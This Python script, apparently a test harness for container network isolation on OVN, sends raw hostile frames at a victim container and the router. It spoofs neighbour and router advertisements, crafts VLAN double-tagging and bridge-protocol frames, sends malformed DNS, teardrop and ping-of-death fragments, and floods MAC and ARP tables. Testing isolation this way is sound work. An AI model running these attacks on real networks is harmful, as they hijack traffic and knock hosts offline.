"""A program for a container that sends hostile frames.

Arguments: the name of the attack, the link, the MACs of the container, the victim and the router, the
container's and the victim's IPv4 addresses, their IPv6 addresses, and further arguments of the attack.
"""

import random
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from ipaddress import ip_address
from struct import pack, unpack

ATTACK, LINK, *WORDS = sys.argv[1:]
MINE, THEIRS, ROUTER = (bytes.fromhex(word.replace(":", "")) for word in WORDS[:3])
MY4, THEIR4, MY6, THEIR6, *MORE = (ip_address(word).packed for word in WORDS[3:])
LINK_LOCAL = bytes.fromhex("fe80000000000000") + bytes([MINE[0] ^ 2]) + MINE[1:3] + b"\xff\xfe" + MINE[3:]
FORGED = bytes.fromhex("026666666666")
ALL = b"\xff" * 6
ALL_NODES = ip_address("ff02::1").packed
RESOLVER = ip_address("169.254.53.1").packed
ARP, IPV4, IPV6 = 0x806, 0x800, 0x86DD

tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
tap.bind((LINK, 0))
noise = random.Random(13)  # the same noise each time


def send(target: bytes, ethertype: int, payload: bytes, source: bytes = MINE, tags: bytes = b"") -> None:
    with suppress(OSError):  # the kernel refuses frames that are too short or too long for the link
        tap.send(target + source + tags + pack("!H", ethertype) + payload)


def total(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    value: int = sum(unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return value ^ 0xFFFF


def ipv4(
    payload: bytes,
    protocol: int = 17,
    target: bytes = THEIR4,
    *,
    length: int | None = None,
    fragment: int = 0,
    ttl: int = 64,
    options: bytes = b"",
    words: int | None = None,
) -> bytes:
    size = 20 + len(options)
    length = size + len(payload) if length is None else length
    first = 0x40 | (size // 4 if words is None else words)
    head = pack("!BBHHHBBH4s4s", first, 0, length, 7, fragment, ttl, protocol, 0, MY4, target)
    return head[:10] + pack("!H", total(head + options)) + head[12:] + options + payload


def ipv6(
    payload: bytes, following: int, source: bytes = MY6, target: bytes = THEIR6, *, length: int | None = None
) -> bytes:
    length = len(payload) if length is None else length
    return pack("!IHBB", 6 << 28, length, following, 255) + source + target + payload


def udp(payload: bytes, port: int = 7, *, length: int | None = None) -> bytes:
    return pack("!4H", port, port, 8 + len(payload) if length is None else length, 0) + payload


def icmpv6(kind: int, body: bytes, source: bytes = MY6, target: bytes = THEIR6) -> bytes:
    checksum = total(source + target + pack("!IIBBH", 4 + len(body), 58, kind, 0, 0) + body)
    return pack("!BBH", kind, 0, checksum) + body


def arp(operation: int, mac: bytes, address: bytes, target_mac: bytes, target: bytes) -> bytes:
    return pack("!HHBBH", 1, IPV4, 6, 4, operation) + mac + address + target_mac + target


def extension(following: int) -> bytes:
    """Return a hop-by-hop or destination options header of 8 octets, with padding (RFC 8200, 4.2)."""
    return bytes([following, 0, 1, 4, 0, 0, 0, 0])


def fragment(following: int, offset: int, number: int, *, more: bool) -> bytes:
    return pack("!BBHI", following, 0, offset << 3 | more, number)


def hidden(message: bytes) -> Iterator[tuple[int, bytes]]:
    """Yield an ICMPv6 message behind headers of all kinds: the first header's number, and the headers."""
    yield 58, message
    yield 0, extension(58) + message
    yield 60, extension(58) + message
    yield 0, extension(60) + extension(58) + message
    yield 60, extension(60) * 7 + extension(58) + message
    yield 60, extension(60) * 30 + extension(58) + message
    for kind in (0, 2, 4):
        yield 43, bytes([58, 0, kind, 0, 0, 0, 0, 0]) + message
    yield 51, pack("!BBHII", 58, 1, 0, 1, 1) + message
    yield 44, fragment(58, 0, 1, more=False) + message
    for number, (following, whole, cut) in enumerate([(58, message, 16), (60, extension(58) + message, 8)]):
        yield 44, fragment(following, 0, number, more=True) + whole[:cut]
        yield 44, fragment(following, cut // 8, number, more=False) + whole[cut:]


def neighbours() -> None:
    """Claim the IPv6 address that is the last argument, by neighbour advertisements that OVN may misread."""
    (claimed,) = MORE
    mine, forged = b"\2\1" + MINE, b"\2\1" + FORGED
    for source in (MY6, LINK_LOCAL, claimed):
        for options in (
            forged,
            mine,
            mine + forged,
            forged + mine,
            b"\x0e\1" + b"\0" * 6 + forged,
            b"\0\0" + forged,
        ):
            message = icmpv6(136, pack("!I", 0x20000000) + claimed + options, source)
            for following, payload in hidden(message):
                send(THEIRS, IPV6, ipv6(payload, following, source))


def router() -> None:
    """Advertise a router and the prefix that is the last argument."""
    (prefix,) = MORE
    body = pack("!BBHII", 64, 0, 1800, 0, 0) + pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
    for target, mac in ((ALL_NODES, b"\x33\x33\0\0\0\1"), (THEIR6, THEIRS)):
        for following, payload in hidden(icmpv6(134, body + b"\1\1" + MINE, LINK_LOCAL, target)):
            send(mac, IPV6, ipv6(payload, following, LINK_LOCAL, target))


def plain() -> None:
    """Send packets that the victim's kernel would accept if they reached it."""
    for target in (THEIRS, ALL):
        send(target, IPV4, ipv4(udp(b"<IPv4>")))
        send(target, IPV6, ipv6(udp(b"<IPv6>"), 17))
        send(target, ARP, arp(1, MINE, MY4, THEIRS, THEIR4) + b"<ARP>")


def priority() -> None:
    """Send IPv4 in frames with a VLAN 0 tag, which the victim's kernel accepts like frames without a tag."""
    for _ in range(3):
        send(THEIRS, IPV4, ipv4(udp(b"<priority tag>")), tags=bytes.fromhex("81000000"))


def tags() -> None:
    """Send frames with VLAN tags of all kinds."""
    for text in (
        *("81000000", "81000001", "8100002a", "81000fff", "88a80001", "91000001"),
        *("8100000081000000", "8100000181000002", "88a8000181000002", "810000018100000281000003"),
    ):
        for target in (THEIRS, ALL):
            word = f"<{text}>".encode()
            send(target, IPV4, ipv4(udp(word)), tags=bytes.fromhex(text))
            send(target, ARP, arp(2, MINE, MY4, THEIRS, THEIR4) + word, tags=bytes.fromhex(text))


def bridges() -> None:
    """Send frames of the protocols between bridges: IEEE 802.1D-2004, table 7-10, and PVST+."""
    for last in range(16):  # spanning tree, pause, LACP, LLDP, ...
        target = bytes.fromhex("0180c20000") + bytes([last])
        word = f"<reserved {last}>".encode()
        send(target, 3 + len(word), b"\x42\x42\x03" + b"\0" * 35 + word)
        for ethertype in (0x8809, 0x88CC, 0x8808, 0x888E):
            send(target, ethertype, b"\1" * 50 + word)
    send(bytes.fromhex("01000ccccccd"), 0x32, b"\xaa\xaa\3\0\0\x0c\1\x0b" + b"\0" * 50 + b"<PVST+>")


def queries() -> Iterator[bytes]:
    """Yield malformed queries for names."""
    question = b"\x03far\0\0\1\0\1"
    for count in (0, 1, 2, 65535):  # of questions, with and without them
        whole = pack("!6H", 1, 0x100, count, 0, 0, 0) + question
        yield from (whole[:cut] for cut in range(len(whole) + 1))
    head = pack("!6H", 1, 0x100, 1, 0, 0, 0)
    yield head + b"\xc0\x0c\0\1\0\1"  # a name that points to itself
    yield head + b"\xc0\x0e\xc0\x0c\0\1\0\1"  # names that point to each other
    yield head + b"\xff\xff\0\1\0\1"
    yield head + b"\x3f" + b"a" * 10  # a label that ends behind the packet
    yield head + b"\x40" + b"a" * 64 + b"\0\0\1\0\1"
    yield head + (b"\x3f" + b"a" * 63) * 20 + b"\0\0\1\0\1"
    yield head + b"\1a" * 600
    yield head + question + b"\0\0\x29\xff\xff" + ALL * 3
    yield from (head + noise.randbytes(noise.randrange(60)) for _ in range(500))
    yield from (noise.randbytes(noise.randrange(200)) for _ in range(500))


def malformed_names() -> None:
    for query in queries():
        for target in (RESOLVER, THEIR4):
            send(ROUTER, IPV4, ipv4(udp(query, 53), target=target))
        send(ROUTER, IPV6, ipv6(udp(query, 53), 17))
    query = pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\x03far\0\0\1\0\1"
    for length in (0, 1, 7, 8, 9, 20, 65535):
        send(ROUTER, IPV4, ipv4(udp(query, 53, length=length)))
        send(ROUTER, IPV4, ipv4(udp(query, 53), length=length))
        send(THEIRS, IPV6, ipv6(udp(query, 53), 17, length=length))
    for options in (b"\x83\x07\x04" + THEIR4 + b"\0", b"\x07\xff\x04\0", b"\x44\0\0\0", b"\1" * 40):
        send(ROUTER, IPV4, ipv4(udp(query, 53), options=options))


def malformed_fragments() -> None:
    """Send fragments that overlap, end behind 64 KiB or leave a hole: teardrop, ping of death and others."""
    for more, offset in ((1, 0), (1, 1), (0, 1), (0, 3), (1, 8189), (0, 8191), (0, 0)):
        for size in (0, 8, 24, 1400):
            data = noise.randbytes(size)
            for protocol in (1, 17):
                send(THEIRS, IPV4, ipv4(data, protocol, fragment=more << 13 | offset))
            send(THEIRS, IPV6, ipv6(fragment(17, offset, 7, more=bool(more)) + data, 44))


def malformed_headers() -> None:
    for words in (0, 1, 4, 5, 6, 15):
        send(THEIRS, IPV4, ipv4(noise.randbytes(40), words=words))
    for number in range(256):
        data = noise.randbytes(noise.randrange(80))
        send(ROUTER, IPV4, ipv4(data, number, RESOLVER))
        send(THEIRS, IPV4, ipv4(data, number, ttl=number % 3))
        send(THEIRS, IPV6, ipv6(data, number))
        send(b"\x33\x33\0\0\0\1", IPV6, ipv6(data, number, LINK_LOCAL, ALL_NODES))
        for source in (MY6, LINK_LOCAL):
            for mac in (THEIRS, ROUTER):
                send(mac, IPV6, ipv6(icmpv6(number, data[:40], source), 58, source))
    for port in (67, 68, 546, 547, 3784, 4789, 5353, 6081):
        for size in (0, 40, 240, 300):
            send(ALL, IPV4, ipv4(udp(noise.randbytes(size), port), target=b"\xff" * 4))
            send(ROUTER, IPV4, ipv4(udp(noise.randbytes(size), port), target=RESOLVER))


def malformed_frames() -> None:
    for ethertype in (ARP, IPV4, IPV6, 0x8035, 0x8847, 0x8863, 0x88BE, 0x894F, 0x0000, 0x05DC, 0xFFFF):
        for size in (0, 1, 20, 28, 46, 1400):
            for target in (ALL, THEIRS, ROUTER):
                send(target, ethertype, noise.randbytes(size))
    for size in (*range(50), 1442, 1443, 2000, 9000):  # runts, and giants if the link lets them through
        send(THEIRS, IPV4, ipv4(udp(noise.randbytes(9000)))[:size])


def malformed() -> None:
    for attack in (malformed_names, malformed_fragments, malformed_headers, malformed_frames):
        attack()


def flood() -> None:
    """Send frames from 10,000 source MACs, and claim 10,000 addresses to the router."""
    for number in range(10_000):
        mac, address = b"\x02\x77" + pack("!I", number), b"\x0a\1" + pack("!H", number)
        send(THEIRS, IPV4, ipv4(udp(b"<flood>")), mac)
        send(ALL, ARP, arp(1, mac, address, b"\0" * 6, MY4) + b"<flood>", mac)
        send(ROUTER, ARP, arp(2, mac, address, ROUTER, RESOLVER), mac)
        send(ROUTER, ARP, arp(2, MINE, address, ROUTER, RESOLVER))


ATTACKS = (neighbours, router, plain, priority, tags, bridges, malformed, flood)
{one.__name__: one for one in ATTACKS}[ATTACK]()
